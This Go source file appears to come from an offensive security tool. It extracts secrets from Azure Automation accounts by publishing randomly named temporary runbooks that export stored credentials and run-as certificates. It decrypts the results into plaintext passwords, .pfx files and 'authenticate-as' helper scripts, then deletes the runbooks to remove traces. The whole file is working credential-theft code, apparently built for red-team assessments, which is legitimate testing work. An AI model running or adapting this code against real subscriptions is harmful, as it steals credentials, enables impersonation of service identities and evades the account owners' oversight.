package sweep

import (
	"context"
	"encoding/base64"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/google/uuid"
	"github.com/praetorian-inc/pulsar/internal/message"
	"github.com/praetorian-inc/pulsar/pkg/types"
)

type jobKind int

const (
	jobConnection jobKind = iota
	jobCredential
)

// runbookJob is one transient unit of remote execution: a generated
// script, its randomized runbook/job name, and the asset it targets.
// Created during BuildJobs, deleted remotely and locally after its
// output is consumed.
type runbookJob struct {
	kind       jobKind
	account    AutomationAccount
	name       string
	script     string
	scriptPath string
	conn       Connection
	cred       StoredCredential
}

// collectAutomationAccounts drives the credential extractor across all
// automation accounts. The ephemeral transport key pair is created once
// for the whole phase and destroyed exactly once at the end, success or
// failure.
func (r *Runner) collectAutomationAccounts(ctx context.Context) error {
	accounts, err := r.c.Automation.ListAccounts(ctx)
	if err != nil {
		return fmt.Errorf("listing automation accounts: %w", Classify(err))
	}
	message.Info("Found %d automation accounts in subscription %s", len(accounts), r.cfg.Subscription)
	if len(accounts) == 0 {
		return nil
	}

	kp, err := NewKeyPair(r.cfg.OutputDir)
	if err != nil {
		return err
	}
	defer func() {
		if err := kp.Destroy(); err != nil {
			r.logger.Warn("transport key teardown failed", slog.String("error", err.Error()))
		}
	}()

	for _, acct := range accounts {
		if err := ctx.Err(); err != nil {
			return err
		}
		r.extractAccount(ctx, kp, acct)
	}
	return nil
}

// extractAccount runs Discover -> BuildJobs -> Submit/Poll/Decrypt ->
// Cleanup for one account. Per-job failures are logged and never stop
// the remaining jobs or accounts.
func (r *Runner) extractAccount(ctx context.Context, kp *KeyPair, acct AutomationAccount) {
	logger := r.logger.With(slog.String("account", acct.Name))

	// Discover
	creds, err := r.c.Automation.ListCredentials(ctx, acct)
	if err != nil {
		logger.Warn("listing stored credentials failed", slog.String("error", err.Error()))
	}
	conns, err := r.c.Automation.ListConnections(ctx, acct)
	if err != nil {
		logger.Warn("listing connections failed", slog.String("error", err.Error()))
	}
	if len(creds) == 0 && len(conns) == 0 {
		logger.Debug("no extractable assets")
		return
	}

	// BuildJobs
	pub := kp.PublicCertBase64()
	var jobs []*runbookJob
	for _, conn := range conns {
		jobs = append(jobs, &runbookJob{
			kind:    jobConnection,
			account: acct,
			name:    jobName(),
			script:  connectionExportScript(certAssetName(conn), r.cfg.ExportPassword, pub),
			conn:    conn,
		})
	}
	for _, cred := range creds {
		jobs = append(jobs, &runbookJob{
			kind:    jobCredential,
			account: acct,
			name:    jobName(),
			script:  credentialExportScript(cred.Name, pub),
			cred:    cred,
		})
	}

	for _, job := range jobs {
		r.runJob(ctx, kp, job, logger)
	}
}

// runJob submits one generated runbook, waits for a terminal status,
// decrypts the output, and cleans up all local and remote traces of the
// job on every exit path.
func (r *Runner) runJob(ctx context.Context, kp *KeyPair, job *runbookJob, logger *slog.Logger) {
	logger = logger.With(slog.String("job", job.name))

	job.scriptPath = filepath.Join(r.cfg.OutputDir, job.name+".ps1")
	if err := os.WriteFile(job.scriptPath, []byte(job.script), 0600); err != nil {
		logger.Error("writing job script failed", slog.String("error", err.Error()))
		return
	}

	submitted := false
	defer func() {
		// Cleanup: remote runbook/job and local script go away whether
		// or not Decrypt ran. The revert itself must not panic or
		// abort the run.
		if submitted {
			if err := r.c.Automation.DeleteRunbook(context.WithoutCancel(ctx), job.account, job.name); err != nil {
				message.Warning("Could not delete temporary runbook %s on account %s", job.name, job.account.Name)
				logger.Error("runbook cleanup failed", slog.String("error", err.Error()))
			}
		}
		if err := os.Remove(job.scriptPath); err != nil && !os.IsNotExist(err) {
			logger.Warn("local script cleanup failed", slog.String("error", err.Error()))
		}
	}()

	// Submit
	if err := r.c.Automation.CreateRunbook(ctx, job.account, job.name, job.script); err != nil {
		logger.Error("runbook publish denied", slog.String("error", Classify(err).Error()))
		return
	}
	submitted = true
	if err := r.c.Automation.StartJob(ctx, job.account, job.name, job.name); err != nil {
		logger.Error("job start denied", slog.String("error", Classify(err).Error()))
		return
	}

	// Poll
	status, err := r.pollJob(ctx, job)
	if err != nil {
		logger.Error("job did not complete", slog.String("error", err.Error()))
		return
	}
	if status != JobCompleted {
		logger.Error("job reached non-success terminal state", slog.String("status", string(status)))
		return
	}

	// Decrypt
	output, err := r.c.Automation.JobOutput(ctx, job.account, job.name)
	if err != nil {
		logger.Error("fetching job output failed", slog.String("error", Classify(err).Error()))
		return
	}

	switch job.kind {
	case jobConnection:
		r.consumeConnectionOutput(kp, job, output, logger)
	case jobCredential:
		r.consumeCredentialOutput(kp, job, output, logger)
	}
}

// pollJob re-queries job status until it leaves the running states,
// bounded by the configured job timeout.
func (r *Runner) pollJob(ctx context.Context, job *runbookJob) (JobStatus, error) {
	deadline := time.Now().Add(r.cfg.JobTimeout)
	for {
		status, err := r.c.Automation.JobStatus(ctx, job.account, job.name)
		if err != nil {
			return "", fmt.Errorf("%w: %v", ErrRemoteExecution, err)
		}
		if status.Terminal() {
			return status, nil
		}
		if time.Now().After(deadline) {
			return status, fmt.Errorf("%w after %s", ErrRemoteTimeout, r.cfg.JobTimeout)
		}

		select {
		case <-ctx.Done():
			return status, ctx.Err()
		case <-time.After(r.cfg.PollInterval):
		}
	}
}

func (r *Runner) consumeConnectionOutput(kp *KeyPair, job *runbookJob, output string, logger *slog.Logger) {
	if strings.Contains(output, markerAssetNotFound) {
		// Certificate asset is gone; the companion authenticate-as
		// helper would be useless, so it is never written.
		message.Warning("Run-as certificate for connection %s on %s no longer exists", job.conn.Name, job.account.Name)
		return
	}

	keyB64, dataB64, ok := parseEnvelope(output)
	if !ok {
		logger.Error("job output missing envelope markers")
		return
	}

	archiveB64, err := kp.DecryptEnvelope(keyB64, dataB64)
	if err != nil {
		logger.Error("certificate archive decryption failed", slog.String("error", err.Error()))
		return
	}

	base := fmt.Sprintf("%s-%s", job.account.Name, job.conn.Name)
	pfxPath := ""

	if r.cfg.ExportCerts {
		pfxPath = filepath.Join(r.cfg.OutputDir, base+".pfx")
		archive, err := decodeBase64(string(archiveB64))
		if err != nil {
			logger.Error("certificate archive is not valid base64", slog.String("error", err.Error()))
			return
		}
		if err := os.WriteFile(pfxPath, archive, 0600); err != nil {
			logger.Error("writing certificate archive failed", slog.String("error", err.Error()))
			return
		}
		message.Success("Exported run-as certificate to %s", pfxPath)
	}

	helperPath := filepath.Join(r.cfg.OutputDir, "AuthenticateAs-"+base+".ps1")
	helper := authenticateAsScript(pfxPath, r.cfg.ExportPassword, job.conn)
	if err := os.WriteFile(helperPath, []byte(helper), 0600); err != nil {
		logger.Error("writing authenticate-as helper failed", slog.String("error", err.Error()))
		return
	}
	message.Success("Wrote authenticate-as helper %s (tenant %s, app %s)", helperPath, job.conn.TenantID, job.conn.ApplicationID)
}

func (r *Runner) consumeCredentialOutput(kp *KeyPair, job *runbookJob, output string, logger *slog.Logger) {
	record := types.CredentialRecord{
		Kind:            types.KindAutomationAccount,
		Name:            job.cred.Name,
		Username:        job.cred.Username,
		SourceContainer: job.account.Name,
		Subscription:    r.cfg.Subscription,
	}

	if strings.Contains(output, markerAssetNotFound) {
		// Keep the row so per-account row counts stay consistent.
		record.Value = types.NotCreated
		r.sink.Append(record)
		return
	}

	var username, password string
	for _, line := range strings.Split(output, "\n") {
		line = strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(line, markerUsername):
			pt, err := kp.Decrypt(strings.TrimPrefix(line, markerUsername))
			if err != nil {
				logger.Error("username decryption failed", slog.String("error", err.Error()))
				return
			}
			username = string(pt)
		case strings.HasPrefix(line, markerPassword):
			pt, err := kp.Decrypt(strings.TrimPrefix(line, markerPassword))
			if err != nil {
				logger.Error("password decryption failed", slog.String("error", err.Error()))
				return
			}
			password = string(pt)
		}
	}
	if password == "" {
		logger.Error("job output had no password line")
		return
	}

	if username != "" {
		record.Username = username
	}
	record.Value = password
	r.sink.Append(record)
	message.Success("Extracted stored credential %s from %s", job.cred.Name, job.account.Name)
}

// parseEnvelope pulls the wrapped-key and payload lines out of a
// connection job's output.
func parseEnvelope(output string) (keyB64, dataB64 string, ok bool) {
	for _, line := range strings.Split(output, "\n") {
		line = strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(line, markerEnvelopeKey):
			keyB64 = strings.TrimPrefix(line, markerEnvelopeKey)
		case strings.HasPrefix(line, markerEnvelopeData):
			dataB64 = strings.TrimPrefix(line, markerEnvelopeData)
		}
	}
	return keyB64, dataB64, keyB64 != "" && dataB64 != ""
}

// jobName returns a randomized runbook/job name wide enough that
// collisions across a run, or with leftovers from a failed prior run,
// are negligible.
func jobName() string {
	return "pulsar-" + strings.ReplaceAll(uuid.NewString(), "-", "")[:16]
}

func decodeBase64(s string) ([]byte, error) {
	return base64.StdEncoding.DecodeString(strings.TrimSpace(s))
}

// certAssetName derives the certificate asset backing a run-as
// connection. The portal provisions the pair as AzureRunAsConnection /
// AzureRunAsCertificate, so the Connection suffix maps across; other
// connections conventionally share their certificate's name.
func certAssetName(conn Connection) string {
	if strings.Contains(conn.Name, "Connection") {
		return strings.ReplaceAll(conn.Name, "Connection", "Certificate")
	}
	return conn.Name
}
